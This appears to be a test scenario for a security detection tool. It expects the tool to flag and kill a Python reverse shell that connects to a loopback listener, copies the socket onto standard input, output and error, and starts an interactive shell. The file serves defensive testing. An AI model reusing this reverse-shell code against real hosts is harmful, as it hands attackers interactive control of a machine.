# expect: reverse_shell
# action: kill
# about: the Python one-liner: connect, dup2 onto 0/1/2, exec a shell (listener on loopback)
import os
import socket
import subprocess
import sys

lib = os.environ["SCENARIO_LIB"]
listener = subprocess.Popen([sys.executable, f"{lib}/listener.py"], stdout=subprocess.PIPE)
port = int(listener.stdout.readline())
s = socket.socket()
s.connect(("127.0.0.1", port))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
